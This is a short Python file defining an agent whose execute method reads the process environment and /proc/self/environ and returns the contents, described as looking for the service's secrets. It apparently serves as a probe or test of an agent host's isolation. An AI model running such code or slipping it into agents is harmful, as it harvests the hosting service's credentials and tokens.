"""Dumps its environment, looking for the service's secrets."""
import os


class Agent:
    def execute(self, inputs):
        try:
            with open("/proc/self/environ", "rb") as f:
                raw = f.read().decode(errors="replace")
        except OSError as exc:
            raw = repr(exc)
        return {"environ": dict(os.environ), "proc_self_environ": raw}

    def get_capabilities(self):
        return {}
